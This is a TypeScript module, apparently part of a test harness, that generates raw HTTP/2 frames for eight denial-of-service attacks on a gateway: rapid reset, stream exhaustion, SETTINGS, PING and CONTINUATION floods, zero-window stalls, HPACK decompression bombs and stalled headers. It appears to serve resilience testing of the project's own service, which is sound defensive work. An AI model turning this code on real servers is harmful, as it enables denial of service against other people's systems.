// The frames of the HTTP/2 attacks. Each connection attacks until the gateway closes it or the attack ends. attacker.ts opens
// the connections and replaces closed ones.
import { once } from 'node:events';
import {
  errorCodes,
  fieldBlock,
  firstOfTable,
  flags,
  frame,
  type FrameClient,
  frameTypes,
  headers,
  indexedField,
  requestFields,
  resetStream,
  settingIds,
  settings,
  windowUpdate,
} from '../test/helpers/http2-frames.ts';

export const HTTP2_ATTACKS = {
  'rapid reset': 'connections that send requests and take each back at once',
  'many streams':
    'each connection has 100 streams, and opens another for each that is answered; ids that are bad',
  'SETTINGS flood': 'connections that send SETTINGS without a pause and read the acknowledgements',
  'PING flood': 'the same with PING',
  'CONTINUATION flood': 'heads that go on in 16 KB frames without end',
  'zero windows':
    'each connection has 100 streams and lets no byte of a reply come; 25 of the replies have 4 MB',
  'HPACK bombs': 'heads of 16 KB that unpack to 64 MB, one stream after the other',
  'heads that stay': 'each connection has 100 requests without their bodies, of 80 fields in 80 bytes',
} as const;
export type Http2AttackName = keyof typeof HTTP2_ATTACKS;

/** The initial SETTINGS of an attack's connections. */
export function settingsOf(attack: Http2AttackName): (readonly [id: number, value: number])[] {
  return attack === 'zero windows' ? [[settingIds.initialWindowSize, 0]] : [];
}

const STREAMS_AT_ONCE = 100;
// With 100 connections these are 500 reads. Above IN_FLIGHT_MAX, the gateway would refuse good clients too.
const READS_AT_ONCE = 5;
const ITEM = requestFields('GET', '/api/work-items/17');
const LIST = requestFields('GET', '/api/work-items');
const REFUSED = requestFields('GET', '/api/work-items/a');

const repeat = (bytes: Uint8Array, count: number): Buffer =>
  Buffer.concat(Array.from({ length: count }, () => bytes));
const MANY_SETTINGS = repeat(settings([[settingIds.initialWindowSize, 65_535]]), 3_000);
const MANY_PINGS = repeat(frame(frameTypes.ping, 0, 0, Buffer.alloc(8)), 3_000);
const CONTINUATIONS = repeat(
  frame(frameTypes.continuation, 0, 1, fieldBlock([['x-a', 'x'.repeat(16_000)]])),
  4,
);
const WHOLE = flags.endHeaders | flags.endStream;
const LARGE = Buffer.concat([fieldBlock(ITEM), indexedField('x-large', 'x'.repeat(4_000))]);
const STAYING = Buffer.concat([fieldBlock(requestFields('POST', '/api/work-items')), firstOfTable(76)]);
const BOMB = Buffer.concat([fieldBlock(ITEM), firstOfTable(16_000)]);

type OnStreams = (count: number) => void;

/** Attacks over connection number `index` until it is closed. Calls `onStreams` with each number of opened streams. */
export async function attackOver(
  client: FrameClient,
  attack: Http2AttackName,
  index: number,
  onStreams: OnStreams,
): Promise<void> {
  // Discards all frames received.
  client.onFrame = () => undefined;
  switch (attack) {
    case 'rapid reset':
      for (let stream = 1; client.isOpen; stream += 2 * 50) {
        const pairs = Array.from({ length: 50 }, (_, at) => [
          headers(stream + 2 * at, ITEM),
          resetStream(stream + 2 * at, errorCodes.cancel),
        ]);
        onStreams(50);
        await client.sent(...pairs.flat());
      }
      return;
    case 'many streams':
      client.send(windowUpdate(0, 2 ** 30));
      return keepStreams(client, STREAMS_AT_ONCE, () => REFUSED, onStreams);
    case 'SETTINGS flood':
      return flood(client, MANY_SETTINGS);
    case 'PING flood':
      return flood(client, MANY_PINGS);
    case 'CONTINUATION flood':
      onStreams(1);
      client.send(headers(1, ITEM, flags.endStream));
      return flood(client, CONTINUATIONS);
    case 'zero windows':
      return keepStreams(
        client,
        READS_AT_ONCE,
        (stream) => (stream === 1 && index % 4 === 0 ? LIST : ITEM),
        onStreams,
      );
    case 'heads that stay':
      onStreams(STREAMS_AT_ONCE);
      client.send(
        headers(1, [...requestFields('POST', '/api/work-items')], flags.endHeaders),
        frame(frameTypes.headers, WHOLE, 3, LARGE),
        ...Array.from({ length: STREAMS_AT_ONCE - 2 }, (_, at) =>
          frame(frameTypes.headers, flags.endHeaders, 5 + 2 * at, STAYING),
        ),
      );
      if (client.isOpen) await once(client.socket, 'close');
      return;
    case 'HPACK bombs':
      for (let stream = 1; client.isOpen; stream += 2) {
        onStreams(1);
        await client.sent(frame(frameTypes.headers, WHOLE, stream, stream === 1 ? LARGE : BOMB));
      }
  }
}

async function flood(client: FrameClient, bytes: Buffer): Promise<void> {
  while (client.isOpen) await client.sent(bytes);
}

/** Keeps 100 streams open, at most `waitingMax` of them without a reply head. */
async function keepStreams(
  client: FrameClient,
  waitingMax: number,
  request: (stream: number) => ReturnType<typeof requestFields>,
  onStreams: OnStreams,
): Promise<void> {
  const open = new Set<number>();
  const waiting = new Set<number>();
  let next = 1;
  let isDue = false;
  const fill = (): void => {
    isDue = false;
    const frames: Buffer[] = [];
    while (open.size < STREAMS_AT_ONCE && waiting.size < waitingMax) {
      open.add(next);
      waiting.add(next);
      frames.push(headers(next, request(next)));
      next += 2;
    }
    if (frames.length === 0 || !client.isOpen) return;
    onStreams(frames.length);
    client.send(...frames);
  };
  client.onFrame = ({ type, flags: frameFlags, stream }) => {
    const isReply = type === frameTypes.headers || type === frameTypes.data;
    const isOver = type === frameTypes.resetStream || (isReply && (frameFlags & flags.endStream) !== 0);
    if (isOver) open.delete(stream);
    if (isOver || isReply) waiting.delete(stream);
    // Calls `fill` once for all frames of one read.
    if (isDue) return;
    isDue = true;
    queueMicrotask(fill);
  };
  fill();
  if (client.isOpen) await once(client.socket, 'close');
}
